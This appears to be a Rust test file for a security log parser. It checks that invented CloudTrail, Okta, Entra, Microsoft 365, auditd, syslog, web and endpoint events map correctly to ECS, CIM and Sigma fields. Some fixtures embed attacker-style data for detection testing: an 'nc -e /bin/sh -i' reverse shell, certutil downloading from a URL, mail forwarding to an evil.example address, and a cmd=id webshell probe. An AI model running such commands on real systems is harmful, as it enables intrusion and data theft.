//! One event of each source that is no classic Windows event log, from its text to what rules of each vendor see. The
//! events are made up in the shape of the real ones.

#![allow(clippy::unwrap_used)] // A fixture that cannot be read fails the test.

mod support;

use lurcher_schema::{LogSource, Schemas};
use support::{Seen, one, read, see};

const CLOUDTRAIL: &str = r#"{"eventVersion":"1.08","userIdentity":{"type":"AssumedRole","principalId":"AROAX:ada","arn":"arn:aws:sts::111122223333:assumed-role/ops/ada","accountId":"111122223333","accessKeyId":"ASIAX","sessionContext":{"sessionIssuer":{"type":"Role","userName":"ops","arn":"arn:aws:iam::111122223333:role/ops"}}},"eventTime":"2026-03-01T10:00:00Z","eventSource":"iam.amazonaws.com","eventName":"CreateUser","awsRegion":"us-east-1","sourceIPAddress":"198.51.100.7","userAgent":"aws-cli/2.0","requestParameters":{"userName":"eve","tags":[{"key":"a","value":"b"}]},"responseElements":null,"eventID":"e-1","eventType":"AwsApiCall","recipientAccountId":"111122223333"}"#;

#[test]
fn cloudtrail() {
    let seen: Seen = &[
        ("index", "logs-aws.cloudtrail-default"),
        ("logsource", "/aws/cloudtrail"),
        ("ecs:event.dataset", "aws.cloudtrail"),
        ("ecs:event.provider", "iam.amazonaws.com"),
        ("ecs:event.action", "CreateUser"),
        ("ecs:event.outcome", "success"),
        ("ecs:event.category", "[\"iam\"]"),
        ("ecs:event.type", "[\"user\",\"creation\"]"),
        ("ecs:user.name", "ops"),
        ("ecs:source.ip", "198.51.100.7"),
        ("ecs:cloud.account.id", "111122223333"),
        ("ecs:aws.cloudtrail.user_identity.arn", "arn:aws:sts::111122223333:assumed-role/ops/ada"),
        ("ecs:aws.cloudtrail.request_parameters", "{userName=eve, tags=[{key=a, value=b}]}"),
        ("ecs:aws.cloudtrail.flattened.request_parameters.userName", "eve"),
        ("ecs:aws.cloudtrail.error_code", "null"),
        ("cim:sourcetype", "aws:cloudtrail"),
        ("cim:eventName", "CreateUser"),
        ("cim:userIdentity.arn", "arn:aws:sts::111122223333:assumed-role/ops/ada"),
        ("cim:requestParameters.tags{}.value", "[\"b\"]"),
        ("cim:errorCode", "success"),
        ("cim:src_ip", "198.51.100.7"),
        ("cim:action", "created"),
        ("cim:_datamodels", "[\"Change\"]"),
        ("sigma:eventSource", "iam.amazonaws.com"),
        ("sigma:requestParameters.userName", "eve"),
    ];
    one(CLOUDTRAIL, seen);
    let (events, _) = read(&format!("{{\"Records\":[{CLOUDTRAIL},{CLOUDTRAIL}]}}"));
    assert_eq!(events.iter().map(|e| e.reference.record).collect::<Vec<_>>(), [0, 1]);
    see(&events[1], seen);
    let wrapped = serde_json::json!({"_raw": CLOUDTRAIL, "sourcetype": "aws:cloudtrail", "source": "s3"});
    one(&wrapped.to_string(), &[("cim:eventName", "CreateUser"), ("cim:source", "s3")]);
}

#[test]
fn a_failed_console_login() {
    let text = r#"{"eventVersion":"1.08","userIdentity":{"type":"IAMUser","userName":"ada","arn":"arn:aws:iam::1:user/ada"},"eventTime":"2026-03-01T10:00:00Z","eventSource":"signin.amazonaws.com","eventName":"ConsoleLogin","awsRegion":"us-east-1","sourceIPAddress":"198.51.100.7","errorMessage":"Failed authentication","requestParameters":null,"responseElements":{"ConsoleLogin":"Failure"},"additionalEventData":{"MFAUsed":"No"}}"#;
    one(
        text,
        &[
            ("ecs:event.outcome", "failure"),
            ("ecs:event.category", "[\"authentication\"]"),
            ("ecs:aws.cloudtrail.console_login.additional_eventdata.mfa_used", "false"),
            ("cim:_datamodels", "[\"Authentication\"]"),
            ("cim:action", "failure"),
            ("cim:user", "ada"),
            ("sigma:responseElements.ConsoleLogin", "Failure"),
        ],
    );
}

#[test]
fn okta() {
    let text = r#"{"uuid":"u1","published":"2026-03-01T10:00:00.000Z","eventType":"user.session.start","displayMessage":"User login to Okta","severity":"INFO","actor":{"id":"00u1","type":"User","alternateId":"ada@example.com","displayName":"Ada"},"client":{"userAgent":{"rawUserAgent":"Mozilla/5.0","os":"Linux","browser":"FIREFOX"},"device":"Computer","ipAddress":"198.51.100.7","geographicalContext":{"city":"Bern","country":"Switzerland"}},"outcome":{"result":"FAILURE","reason":"INVALID_CREDENTIALS"},"target":[{"id":"a1","type":"AppInstance","displayName":"Mail","alternateId":"mail"}],"securityContext":{"asNumber":64500,"asOrg":"example","isProxy":false},"debugContext":{"debugData":{"dtHash":"d1","risk":"{level=HIGH, reasons=Anomalous Device}","requestUri":"/x"}}}"#;
    one(
        text,
        &[
            ("index", "logs-okta.system-default"),
            ("logsource", "/okta/okta"),
            ("ecs:event.dataset", "okta.system"),
            ("ecs:event.action", "user.session.start"),
            ("ecs:event.outcome", "failure"),
            ("ecs:okta.actor.alternate_id", "ada@example.com"),
            ("ecs:user.name", "ada"),
            ("ecs:source.ip", "198.51.100.7"),
            ("ecs:okta.security_context.is_proxy", "false"),
            ("ecs:okta.debug_context.debug_data.dt_hash", "d1"),
            ("ecs:okta.debug_context.debug_data.risk_level", "HIGH"),
            ("ecs:okta.target.display_name", "[\"Mail\"]"),
            ("cim:sourcetype", "OktaIM2:log"),
            ("cim:action", "failure"),
            ("cim:user", "ada@example.com"),
            ("cim:outcome.reason", "INVALID_CREDENTIALS"),
            ("cim:target{}.type", "[\"AppInstance\"]"),
            ("cim:_datamodels", "[\"Authentication\"]"),
            ("sigma:eventType", "user.session.start"),
        ],
    );
}

const SIGN_IN: &str = r#""id":"s1","createdDateTime":"2026-03-01T10:00:00Z","userDisplayName":"Ada","userPrincipalName":"ada@example.com","userId":"uid1","appId":"app1","appDisplayName":"Portal","ipAddress":"198.51.100.7","clientAppUsed":"Browser","isInteractive":true,"authenticationRequirement":"singleFactorAuthentication","status":{"errorCode":50126,"failureReason":"Invalid password"},"deviceDetail":{"deviceId":"","operatingSystem":"Linux","isCompliant":false},"location":{"city":"Bern","countryOrRegion":"CH"}"#;

#[test]
fn entra_sign_ins_in_both_layouts() {
    let seen: Seen = &[
        ("index", "logs-azure.signinlogs-default"),
        ("logsource", "/azure/signinlogs"),
        ("ecs:event.dataset", "azure.signinlogs"),
        ("ecs:event.category", "[\"authentication\"]"),
        ("ecs:event.outcome", "failure"),
        ("ecs:azure.signinlogs.properties.user_principal_name", "ada@example.com"),
        ("ecs:azure.signinlogs.properties.status.error_code", "50126"),
        ("ecs:azure.signinlogs.properties.authentication_requirement", "singleFactorAuthentication"),
        ("ecs:source.ip", "198.51.100.7"),
        ("ecs:user.name", "ada"),
        ("cim:sourcetype", "azure:monitor:aad"),
        ("cim:properties.status.errorCode", "50126"),
        ("cim:user", "ada@example.com"),
        ("cim:action", "failure"),
        ("cim:category", "SignInLogs"),
        ("sigma:ResultType", "50126"),
        ("sigma:Location", "CH"),
    ];
    one(
        &format!(
            r#"{{"time":"2026-03-01T10:00:00Z","resourceId":"/tenants/t/providers/Microsoft.aadiam","operationName":"Sign-in activity","category":"SignInLogs","tenantId":"t","resultType":"50126","callerIpAddress":"198.51.100.7","properties":{{{SIGN_IN}}}}}"#
        ),
        seen,
    );
    let (events, report) = read(&format!(r#"{{"@odata.context":"x","value":[{{{SIGN_IN}}}]}}"#));
    assert_eq!((events.len(), report.errors()), (1, 0));
    see(&events[0], seen);
}

#[test]
fn entra_audit() {
    let text = r#"{"time":"2026-03-01T10:00:00Z","resourceId":"/tenants/t/providers/Microsoft.aadiam","operationName":"Add member to role","operationVersion":"1.0","category":"AuditLogs","tenantId":"t","properties":{"id":"a1","category":"RoleManagement","result":"success","activityDisplayName":"Add member to role","loggedByService":"Core Directory","operationType":"Assign","initiatedBy":{"user":{"id":"u1","userPrincipalName":"ada@example.com","ipAddress":"198.51.100.7"}},"targetResources":[{"id":"u2","type":"User","userPrincipalName":"eve@example.com","modifiedProperties":[{"displayName":"Role.DisplayName","oldValue":null,"newValue":"\"Global Administrator\""}]}],"additionalDetails":[{"key":"User-Agent","value":"curl"}]}}"#;
    one(
        text,
        &[
            ("index", "logs-azure.auditlogs-default"),
            ("logsource", "/azure/auditlogs"),
            ("ecs:event.outcome", "success"),
            ("ecs:azure.auditlogs.operation_name", "Add member to role"),
            ("ecs:azure.auditlogs.properties.category", "RoleManagement"),
            ("ecs:azure.auditlogs.properties.initiated_by.user.userPrincipalName", "ada@example.com"),
            ("ecs:azure.auditlogs.properties.target_resources.0.type", "User"),
            (
                "ecs:azure.auditlogs.properties.target_resources.0.modified_properties.0.new_value",
                "\"Global Administrator\"",
            ),
            ("ecs:azure.auditlogs.properties.additional_details.key", "[\"User-Agent\"]"),
            ("cim:properties.initiatedBy.user.userPrincipalName", "ada@example.com"),
            ("cim:targetResources{}.modifiedProperties{}.newValue", "[\"\\\"Global Administrator\\\"\"]"),
            ("cim:user", "eve@example.com"),
            ("cim:_datamodels", "[\"Change\"]"),
            ("sigma:properties.message", "Add member to role"),
            ("sigma:Category", "RoleManagement"),
        ],
    );
}

#[test]
fn azure_activity() {
    let text = r#"{"time":"2026-03-01T10:00:00Z","resourceId":"/SUBSCRIPTIONS/S1/RESOURCEGROUPS/RG/PROVIDERS/MICROSOFT.KEYVAULT/VAULTS/V1","operationName":"MICROSOFT.KEYVAULT/VAULTS/WRITE","category":"Administrative","resultType":"Success","resultSignature":"Succeeded.OK","callerIpAddress":"198.51.100.7","identity":{"authorization":{"evidence":{"role":"Owner","principalId":"p1","principalType":"User"}},"claims":{"appid":"app1","http://schemas.xmlsoap.org/ws/2005/05/identity/claims/name":"ada@example.com"}},"level":"Information","properties":{"statusCode":"OK"}}"#;
    one(
        text,
        &[
            ("index", "logs-azure.activitylogs-default"),
            ("logsource", "/azure/activitylogs"),
            ("ecs:azure.activitylogs.operation_name", "MICROSOFT.KEYVAULT/VAULTS/WRITE"),
            ("ecs:event.outcome", "success"),
            ("ecs:azure.activitylogs.identity.claims_initiated_by_user.name", "ada@example.com"),
            ("ecs:azure.activitylogs.identity.authorization.evidence.principal_id", "p1"),
            ("ecs:azure.resource.name", "V1"),
            ("ecs:azure.subscription_id", "S1"),
            ("cim:sourcetype", "mscs:azure:audit"),
            ("sigma:operationName", "MICROSOFT.KEYVAULT/VAULTS/WRITE"),
        ],
    );
}

#[test]
fn microsoft_365() {
    let text = r#"{"CreationTime":"2026-03-01T10:00:00","Id":"i1","Operation":"Set-Mailbox","OrganizationId":"o1","RecordType":1,"ResultStatus":"True","UserKey":"k","UserType":2,"Workload":"Exchange","UserId":"ada@example.com","ClientIP":"[2001:db8::1]:443","ObjectId":"eve","Parameters":[{"Name":"Identity","Value":"eve"},{"Name":"ForwardingSmtpAddress","Value":"smtp:x@evil.example"}]}"#;
    one(
        text,
        &[
            ("index", "logs-o365.audit-default"),
            ("logsource", "/m365/audit"),
            ("logsource", "/m365/exchange"),
            ("ecs:event.dataset", "o365.audit"),
            ("ecs:event.provider", "Exchange"),
            ("ecs:event.code", "ExchangeAdmin"),
            ("ecs:event.action", "Set-Mailbox"),
            ("ecs:event.outcome", "success"),
            ("ecs:event.category", "[\"web\"]"),
            ("ecs:o365.audit.Parameters.ForwardingSmtpAddress", "smtp:x@evil.example"),
            ("ecs:source.ip", "2001:db8::1"),
            ("ecs:user.id", "ada@example.com"),
            ("ecs:user.domain", "example.com"),
            ("cim:sourcetype", "o365:management:activity"),
            ("cim:Operation", "Set-Mailbox"),
            ("cim:Parameters{}.Name", "[\"Identity\",\"ForwardingSmtpAddress\"]"),
            ("cim:user", "ada@example.com"),
            ("cim:_datamodels", "[\"Change\"]"),
            ("sigma:Operation", "Set-Mailbox"),
        ],
    );
}

#[test]
fn github() {
    let text = r#"{"@timestamp":1772359200000,"_document_id":"d1","action":"protected_branch.destroy","actor":"ada","actor_ip":"198.51.100.7","org":"acme","repo":"acme/x","user_agent":"curl","created_at":1772359200000,"programmatic_access_type":"OAuth access token"}"#;
    one(
        text,
        &[
            ("index", "logs-github.audit-default"),
            ("logsource", "/github/audit"),
            ("ecs:event.dataset", "github.audit"),
            ("ecs:event.action", "protected_branch.destroy"),
            ("ecs:event.category", "[\"configuration\",\"web\"]"),
            ("ecs:event.type", "[\"change\"]"),
            ("ecs:user.name", "ada"),
            ("ecs:github.category", "protected_branch"),
            ("ecs:github.repo", "acme/x"),
            ("ecs:@timestamp", "2026-03-01T10:00:00Z"),
            ("cim:user", "ada"),
            ("sigma:action", "protected_branch.destroy"),
        ],
    );
}

#[test]
fn google_cloud_and_workspace() {
    let gcp = r#"{"protoPayload":{"@type":"type.googleapis.com/google.cloud.audit.AuditLog","authenticationInfo":{"principalEmail":"ada@example.com"},"requestMetadata":{"callerIp":"198.51.100.7","callerSuppliedUserAgent":"gcloud"},"serviceName":"iam.googleapis.com","methodName":"google.iam.admin.v1.CreateServiceAccountKey","resourceName":"projects/p/serviceAccounts/1","authorizationInfo":[{"permission":"iam.serviceAccountKeys.create","granted":true}],"status":{}},"insertId":"i","resource":{"type":"service_account","labels":{"project_id":"p"}},"timestamp":"2026-03-01T10:00:00Z","severity":"NOTICE","logName":"projects/p/logs/cloudaudit.googleapis.com%2Factivity"}"#;
    one(
        gcp,
        &[
            ("index", "logs-gcp.audit-default"),
            ("logsource", "/gcp/gcp.audit"),
            ("ecs:event.action", "google.iam.admin.v1.CreateServiceAccountKey"),
            ("ecs:event.outcome", "success"),
            ("ecs:client.user.email", "ada@example.com"),
            ("ecs:service.name", "iam.googleapis.com"),
            ("ecs:gcp.audit.resource_name", "projects/p/serviceAccounts/1"),
            ("cim:sourcetype", "google:gcp:pubsub:message"),
            ("cim:data.protoPayload.authorizationInfo{}.permission", "[\"iam.serviceAccountKeys.create\"]"),
            ("sigma:gcp.audit.method_name", "google.iam.admin.v1.CreateServiceAccountKey"),
        ],
    );
    let gws = r#"{"kind":"admin#reports#activity","id":{"time":"2026-03-01T10:00:00Z","applicationName":"admin","customerId":"C1"},"actor":{"email":"ada@example.com","profileId":"1"},"ipAddress":"198.51.100.7","events":[{"type":"USER_SETTINGS","name":"GRANT_ADMIN_PRIVILEGE","parameters":[{"name":"USER_EMAIL","value":"eve@example.com"}]}]}"#;
    one(
        gws,
        &[
            ("index", "logs-google_workspace.admin-default"),
            ("logsource", "/gcp/google_workspace.admin"),
            ("ecs:event.dataset", "google_workspace.admin"),
            ("ecs:event.action", "GRANT_ADMIN_PRIVILEGE"),
            ("ecs:event.provider", "admin"),
            ("ecs:user.target.email", "eve@example.com"),
            ("cim:sourcetype", "gws:reports:admin"),
            ("cim:event.name", "[\"GRANT_ADMIN_PRIVILEGE\"]"),
            ("sigma:eventName", "[\"GRANT_ADMIN_PRIVILEGE\"]"),
        ],
    );
}

#[test]
fn kubernetes() {
    let text = r#"{"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"RequestResponse","auditID":"k1","stage":"ResponseComplete","requestURI":"/api/v1/namespaces/default/pods/x/exec","verb":"create","user":{"username":"ada","groups":["system:authenticated"]},"sourceIPs":["198.51.100.7"],"userAgent":"kubectl","objectRef":{"resource":"pods","namespace":"default","name":"x","subresource":"exec"},"responseStatus":{"code":101},"requestReceivedTimestamp":"2026-03-01T10:00:00.000000Z","annotations":{"authorization.k8s.io/decision":"allow"}}"#;
    one(
        text,
        &[
            ("index", "logs-kubernetes.audit_logs-default"),
            ("logsource", "application/kubernetes/audit"),
            ("ecs:event.dataset", "kubernetes.audit_logs"),
            ("ecs:kubernetes.audit.objectRef.subresource", "exec"),
            ("ecs:kubernetes.audit.annotations.authorization_k8s_io/decision", "allow"),
            ("ecs:user.name", "ada"),
            ("ecs:source.ip", "198.51.100.7"),
            ("cim:objectRef.resource", "pods"),
            ("cim:sourceIPs{}", "[\"198.51.100.7\"]"),
            ("cim:source", "kubernetes"),
            ("sigma:verb", "create"),
        ],
    );
}

const AUDIT: &str = "type=SYSCALL msg=audit(1772359200.123:77): arch=c000003e syscall=59 success=yes exit=0 a0=55 a1=56 items=2 ppid=10 pid=11 auid=1000 uid=0 gid=0 euid=0 tty=pts0 ses=3 comm=\"nc\" exe=\"/usr/bin/nc\" key=\"exec\"\ntype=EXECVE msg=audit(1772359200.123:77): argc=3 a0=\"nc\" a1=\"-e\" a2=2F62696E2F7368202D69\ntype=CWD msg=audit(1772359200.123:77): cwd=\"/tmp\"\ntype=PATH msg=audit(1772359200.123:77): item=0 name=\"/usr/bin/nc\" inode=1 nametype=NORMAL\ntype=PROCTITLE msg=audit(1772359200.123:77): proctitle=6E63002D65\ntype=USER_LOGIN msg=audit(1772359201.000:78): pid=5 uid=0 auid=4294967295 msg='op=login acct=\"ada\" exe=\"/usr/sbin/sshd\" hostname=? addr=198.51.100.7 terminal=ssh res=failed'\n";

#[test]
fn audit_records_and_the_events_they_make() {
    let (events, report) = read(AUDIT);
    assert_eq!((events.len(), report.errors()), (8, 0), "{:?}", report.problems);
    let records: Vec<(u64, &str)> =
        events.iter().map(|e| (e.reference.record, e.shape.attribute("record_type").unwrap_or(""))).collect();
    assert_eq!(
        records,
        [
            (1, "SYSCALL"),
            (1, "event"),
            (2, "EXECVE"),
            (3, "CWD"),
            (4, "PATH"),
            (5, "PROCTITLE"),
            (6, "USER_LOGIN"),
            (6, "event")
        ]
    );
    see(&events[0], &[("sigma:SYSCALL", "execve"), ("cim:type", "SYSCALL"), ("ecs:event.action", "null")]);
    see(
        &events[1],
        &[
            ("index", "auditbeat-default"),
            ("index", "logs-auditd_manager.auditd-default"),
            ("logsource", "process_creation/linux/"),
            ("ecs:event.action", "executed"),
            ("ecs:event.category", "[\"process\"]"),
            ("ecs:event.type", "[\"start\"]"),
            ("ecs:event.outcome", "success"),
            ("ecs:host.os.type", "linux"),
            ("ecs:process.executable", "/usr/bin/nc"),
            ("ecs:process.args", "[\"nc\",\"-e\",\"/bin/sh -i\"]"),
            ("ecs:process.working_directory", "/tmp"),
            ("ecs:process.title", "nc -e"),
            ("ecs:process.parent.pid", "10"),
            ("ecs:user.name", "root"),
            ("ecs:auditd.data.syscall", "execve"),
            ("ecs:auditd.data.a0", "55"),
            ("cim:type", "null"),
            ("cim:_datamodels", "[\"Endpoint_Processes\"]"),
            ("cim:process", "nc -e /bin/sh -i"),
            ("sigma:CommandLine", "nc -e /bin/sh -i"),
            ("sigma:Image", "/usr/bin/nc"),
        ],
    );
    see(
        &events[2],
        &[
            ("logsource", "/linux/auditd"),
            ("sigma:type", "EXECVE"),
            ("sigma:a2", "/bin/sh -i"),
            ("cim:sourcetype", "linux:audit"),
            ("cim:a1", "-e"),
        ],
    );
    see(
        &events[7],
        &[
            ("ecs:event.action", "logged-in"),
            ("ecs:event.outcome", "failure"),
            ("ecs:source.ip", "198.51.100.7"),
            ("cim:_datamodels", "[\"Authentication\"]"),
            ("cim:action", "failure"),
        ],
    );
}

#[test]
fn zeek_in_both_forms() {
    let tsv = "#separator \\x09\n#set_separator\t,\n#empty_field\t(empty)\n#unset_field\t-\n#path\tdns\n#fields\tts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\tproto\ttrans_id\tquery\tqtype_name\trcode_name\tanswers\n#types\ttime\tstring\taddr\tport\taddr\tport\tenum\tcount\tstring\tstring\tstring\tvector[string]\n1772359200.5\tC1\t10.0.0.1\t5353\t10.0.0.2\t53\tudp\t7\twww.example.com\tA\tNOERROR\t192.0.2.1,192.0.2.2\n#close\t2026\n";
    let json = r#"{"_path":"dns","ts":1772359200.5,"uid":"C1","id.orig_h":"10.0.0.1","id.orig_p":5353,"id.resp_h":"10.0.0.2","id.resp_p":53,"proto":"udp","trans_id":7,"query":"www.example.com","qtype_name":"A","rcode_name":"NOERROR","answers":["192.0.2.1","192.0.2.2"]}"#;
    let renamed = json.replace("id.orig", "id_orig").replace("id.resp", "id_resp").replace("_path", "@stream");
    for text in [tsv, json, &renamed] {
        one(
            text,
            &[
                ("shape:stream", "dns"),
                ("index", "logs-zeek.dns-default"),
                ("logsource", "/zeek/dns"),
                ("logsource", "dns//"),
                ("ecs:event.dataset", "zeek.dns"),
                ("ecs:dns.question.name", "www.example.com"),
                ("ecs:dns.resolved_ip", "[\"192.0.2.1\",\"192.0.2.2\"]"),
                ("ecs:source.ip", "10.0.0.1"),
                ("ecs:destination.port", "53"),
                ("ecs:@timestamp", "2026-03-01T10:00:00.500Z"),
                ("cim:_datamodels", "[\"Network_Resolution\"]"),
                ("cim:sourcetype", "zeek:dns:json"),
                ("cim:src", "10.0.0.1"),
                ("sigma:query", "www.example.com"),
                ("sigma:record_type", "A"),
            ],
        );
    }
}

#[test]
fn syslog_and_the_journal() {
    let seen: Seen = &[
        ("index", "logs-system.auth-default"),
        ("logsource", "/linux/sshd"),
        ("logsource", "/linux/auth"),
        ("ecs:event.dataset", "system.auth"),
        ("ecs:event.action", "ssh_login"),
        ("ecs:event.outcome", "failure"),
        ("ecs:user.name", "root"),
        ("ecs:source.ip", "198.51.100.7"),
        ("ecs:source.port", "50000"),
        ("ecs:host.name", "web1"),
        ("ecs:host.os.type", "linux"),
        ("cim:_datamodels", "[\"Authentication\"]"),
        ("cim:action", "failure"),
        ("cim:src", "198.51.100.7"),
        ("cim:sourcetype", "linux_secure"),
    ];
    let message = "Failed password for root from 198.51.100.7 port 50000 ssh2";
    for text in [
        format!("Mar  1 10:00:00 web1 sshd[12]: {message}\n"),
        format!("<86>1 2026-03-01T10:00:00Z web1 sshd 12 - - {message}\n"),
        format!(
            r#"{{"__REALTIME_TIMESTAMP":"1772359200000000","_HOSTNAME":"web1","SYSLOG_IDENTIFIER":"sshd","_PID":"12","PRIORITY":"6","MESSAGE":"{message}"}}"#
        ),
    ] {
        let (events, report) = read(&text);
        assert_eq!((events.len(), report.errors()), (1, 0), "{text}");
        assert_eq!(events[0].time.map(|t| t.to_string()).as_deref(), Some("2026-03-01T10:00:00Z"), "{text}");
        see(&events[0], seen);
    }
}

#[test]
fn syslog_hides_audit_records_and_sysmon() {
    let xml = r#"<Event><System><Provider Name="Linux-Sysmon" Guid="{ff032593-a8d3-4f13-b0d6-01fc615a0f97}"/><EventID>1</EventID><TimeCreated SystemTime="2026-03-01T10:00:00Z"/><EventRecordID>9</EventRecordID><Channel>Linux-Sysmon/Operational</Channel><Computer>web1</Computer></System><EventData><Data Name="Image">/usr/bin/nc</Data><Data Name="CommandLine">nc -l</Data><Data Name="ParentImage">/bin/sh</Data></EventData></Event>"#;
    let text = format!(
        "Mar  1 10:00:00 web1 sysmon: {xml}\nMar  1 10:00:01 web1 audispd: type=CWD msg=audit(1772359200.123:77): cwd=\"/tmp\"\nMar  1 10:00:02 web1 CRON[1]: (root) CMD (true)\n"
    );
    let (events, report) = read(&text);
    assert_eq!(report.errors(), 0, "{:?}", report.problems);
    let dialects: Vec<&str> = events.iter().map(|e| e.shape.dialect()).collect();
    assert_eq!(dialects, ["windows", "auditd", "auditd", "syslog"]);
    see(
        &events[0],
        &[
            ("logsource", "process_creation/linux/"),
            ("cim:source", "Syslog:Linux-Sysmon/Operational"),
            ("cim:_datamodels", "[\"Endpoint_Processes\"]"),
            ("cim:process", "nc -l"),
            ("cim:parent_process_name", "sh"),
            ("sigma:CommandLine", "nc -l"),
            ("ecs:host.os.type", "linux"),
        ],
    );
    see(&events[1], &[("raw:node", "web1"), ("raw:cwd", "/tmp")]);
    see(&events[3], &[("logsource", "/linux/cron"), ("index", "logs-system.syslog-default")]);
}

#[test]
fn web_access_logs() {
    let combined =
        "198.51.100.7 - ada [01/Mar/2026:10:00:00 +0000] \"GET /a.php?cmd=id HTTP/1.1\" 404 12 \"-\" \"curl/8\"\n";
    one(
        combined,
        &[
            ("index", "logs-nginx.access-default"),
            ("index", "logs-apache.access-default"),
            ("logsource", "webserver//"),
            ("ecs:source.ip", "198.51.100.7"),
            ("ecs:http.request.method", "GET"),
            ("ecs:http.response.status_code", "404"),
            ("ecs:url.path", "/a.php"),
            ("ecs:url.query", "cmd=id"),
            ("ecs:event.outcome", "failure"),
            ("ecs:user_agent.original", "curl/8"),
            ("cim:_datamodels", "[\"Web\"]"),
            ("cim:url", "/a.php?cmd=id"),
            ("cim:status", "404"),
            ("sigma:cs-uri-query", "cmd=id"),
            ("sigma:cs-method", "GET"),
        ],
    );
    let iis = "#Software: Microsoft Internet Information Services 10.0\n#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query c-ip cs(User-Agent) sc-status\n2026-03-01 10:00:00 10.0.0.5 POST /owa/x.aspx - 198.51.100.7 curl/8 200\n";
    one(
        iis,
        &[
            ("index", "logs-iis.access-default"),
            ("logsource", "webserver//"),
            ("ecs:event.dataset", "iis.access"),
            ("ecs:url.path", "/owa/x.aspx"),
            ("ecs:http.response.status_code", "200"),
            ("ecs:@timestamp", "2026-03-01T10:00:00Z"),
            ("cim:http_method", "POST"),
            ("sigma:cs-uri-stem", "/owa/x.aspx"),
            ("sigma:cs-user-agent", "curl/8"),
        ],
    );
}

#[test]
fn endpoint_products_agree_on_a_process() {
    let defend = r#"{"@timestamp":"2026-03-01T10:00:00Z","ecs":{"version":"8"},"agent":{"type":"endpoint"},"data_stream":{"type":"logs","dataset":"endpoint.events.process","namespace":"default"},"event":{"category":["process"],"type":["start"],"action":"start","module":"endpoint"},"host":{"name":"pc1","os":{"type":"windows"}},"user":{"name":"ada","domain":"CORP"},"process":{"name":"certutil.exe","executable":"C:\\Windows\\System32\\certutil.exe","command_line":"certutil -urlcache -f http://x","pid":7,"parent":{"name":"cmd.exe","executable":"C:\\Windows\\System32\\cmd.exe"}}}"#;
    let falcon = r#"{"event_simpleName":"ProcessRollup2","aid":"a1","cid":"c1","event_platform":"Win","timestamp":"1772359200000","ComputerName":"pc1","ImageFileName":"\\Device\\HarddiskVolume3\\Windows\\System32\\certutil.exe","CommandLine":"certutil -urlcache -f http://x","ParentBaseFileName":"cmd.exe","TargetProcessId":"9","UserName":"ada","SHA256HashData":"ab"}"#;
    let sentinel = r#"{"event.type":"Process Creation","event.category":"process","event.time":1772359200000,"endpoint.name":"pc1","endpoint.os":"windows","agent.uuid":"a","src.process.name":"cmd.exe","src.process.image.path":"C:\\Windows\\System32\\cmd.exe","src.process.cmdline":"cmd","tgt.process.name":"certutil.exe","tgt.process.image.path":"C:\\Windows\\System32\\certutil.exe","tgt.process.cmdline":"certutil -urlcache -f http://x","tgt.process.user":"CORP\\ada"}"#;
    let defender = r#"{"time":"2026-03-01T10:00:00Z","tenantId":"t","operationName":"Publish","category":"AdvancedHunting-DeviceProcessEvents","properties":{"Timestamp":"2026-03-01T10:00:00Z","DeviceId":"d","DeviceName":"pc1","ActionType":"ProcessCreated","FileName":"certutil.exe","FolderPath":"C:\\Windows\\System32\\certutil.exe","ProcessId":7,"ProcessCommandLine":"certutil -urlcache -f http://x","AccountName":"ada","InitiatingProcessFileName":"cmd.exe","InitiatingProcessFolderPath":"C:\\Windows\\System32\\cmd.exe","InitiatingProcessCommandLine":"cmd"}}"#;
    for (text, index) in [
        (defend, "logs-endpoint.events.process-default"),
        (falcon, "logs-crowdstrike.fdr-default"),
        (sentinel, "logs-sentinel_one_cloud_funnel.event-default"),
        (defender, "logs-m365_defender.event-default"),
    ] {
        one(
            text,
            &[
                ("index", index),
                ("logsource", "process_creation/windows/"),
                ("ecs:host.os.type", "windows"),
                ("ecs:host.name", "pc1"),
                ("ecs:event.type", "[\"start\"]"),
                ("ecs:event.category", "[\"process\"]"),
                ("ecs:process.name", "certutil.exe"),
                ("ecs:process.command_line", "certutil -urlcache -f http://x"),
                ("ecs:process.parent.name", "cmd.exe"),
                ("ecs:user.name", "ada"),
                ("ecs:@timestamp", "2026-03-01T10:00:00Z"),
                ("cim:_datamodels", "[\"Endpoint_Processes\"]"),
                ("cim:process", "certutil -urlcache -f http://x"),
                ("cim:process_name", "certutil.exe"),
                ("cim:parent_process_name", "cmd.exe"),
                ("cim:dest", "pc1"),
                ("cim:user", "ada"),
                ("sigma:CommandLine", "certutil -urlcache -f http://x"),
            ],
        );
    }
    one(falcon, &[("sigma:Image", r"\Windows\System32\certutil.exe")]);
    one(sentinel, &[("sigma:Image", r"C:\Windows\System32\certutil.exe"), ("sigma:User", r"CORP\ada")]);
}

#[test]
fn a_process_on_linux_is_no_process_on_windows() {
    let text = r#"{"@timestamp":"2026-03-01T10:00:00Z","ecs":{"version":"8"},"data_stream":{"type":"logs","dataset":"endpoint.events.process","namespace":"default"},"event":{"category":["process"],"type":["start"],"action":"exec"},"host":{"os":{"type":"linux"}},"process":{"name":"nc","executable":"/usr/bin/nc","args":["nc","-l"]}}"#;
    one(
        text,
        &[
            ("shape:os", "linux"),
            ("logsource", "process_creation/linux/"),
            ("sigma:CommandLine", "nc -l"),
            ("cim:process", "nc -l"),
        ],
    );
    let (events, _) = read(text);
    let sources = Schemas::builtin().unwrap().log_sources(&events[0].shape);
    assert!(!sources.iter().any(|source| LogSource::new("", "windows", "").covers(source)), "{sources:?}");
}
